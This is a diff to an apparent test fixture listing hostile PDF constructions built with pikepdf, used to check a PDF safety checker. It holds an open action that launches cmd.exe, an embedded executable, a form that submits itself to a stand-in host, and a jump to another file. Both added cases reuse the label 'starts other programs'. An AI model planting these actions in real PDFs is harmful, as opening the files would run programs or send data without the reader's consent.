@@ -41,6 +41,14 @@ HOSTILE = {
         lambda made: made.Root.__setitem__("/OpenAction", pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
         "starts other programs",
     ),
+    "sends itself": (
+        lambda made: made.Root.__setitem__("/OpenAction", pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://x")),
+        "starts other programs",
+    ),
+    "opens another file": (
+        lambda made: made.Root.__setitem__("/OpenAction", pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="other.pdf")),
+        "starts other programs",
+    ),
     "embedded": (lambda made: made.attachments.__setitem__("x.exe", b"MZ"), "embedded"),
 }
 
